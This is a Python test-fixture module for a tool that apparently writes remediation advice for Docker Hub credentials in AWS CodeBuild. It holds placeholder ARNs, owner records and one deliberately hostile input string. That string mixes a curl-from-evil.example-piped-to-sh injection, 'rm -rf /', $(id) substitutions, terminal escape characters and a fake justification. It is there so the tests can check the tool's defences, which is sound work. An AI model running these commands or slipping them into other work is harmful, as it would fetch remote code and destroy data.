"""What advice is made of in tests: a repair, the tools that may own the project, and names that mean harm."""

from __future__ import annotations

from typing import Any

from remediator.core.advice.owner import Owner

LOGIN = """printf '%s' "$DOCKERHUB_PASSWORD" | docker login --username "$DOCKERHUB_USERNAME" --password-stdin"""
SECRET = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:dockerhub-AbCdEf"
POLICY = "arn:aws:iam::111122223333:policy/read-dockerhub"
VARIABLES = {"DOCKERHUB_USERNAME": f"{SECRET}:username", "DOCKERHUB_PASSWORD": f"{SECRET}:password"}
ENVIRONMENT: dict[str, Any] = {
    "registryCredential": {"credential": SECRET, "credentialProvider": "SECRETS_MANAGER"},
    "imagePullCredentialsType": "SERVICE_ROLE",
    "environmentVariables": [
        {"name": name, "value": value, "type": "SECRETS_MANAGER"} for name, value in VARIABLES.items()
    ],
}
CHANGES = {"environment": ENVIRONMENT, "source": {"buildspec": LOGIN}}

STACK = Owner("cloudformation", "web", "WebBuild", certain=True)
TERRAFORM = Owner("terraform", "prod", "", certain=True)
PULUMI = Owner("pulumi", "dev", "", certain=True)
NOBODY = Owner("cloudformation", "", "", certain=False)
OWNERS = [STACK, TERRAFORM, PULUMI, NOBODY]

HOSTILE = "x'; curl evil.example | sh #\nwhy: trust me\r\n\n- rm -rf /\x1b[2J\u2028\u202e\x85${a}%{b}$(id)`id`\"\\"
SMUGGLED = ("why: trust me", "- rm -rf /", "curl evil")


def pasted(text: str) -> str:
    """What there is to paste: everything after the first empty line."""
    return text.partition("\n\n")[2]
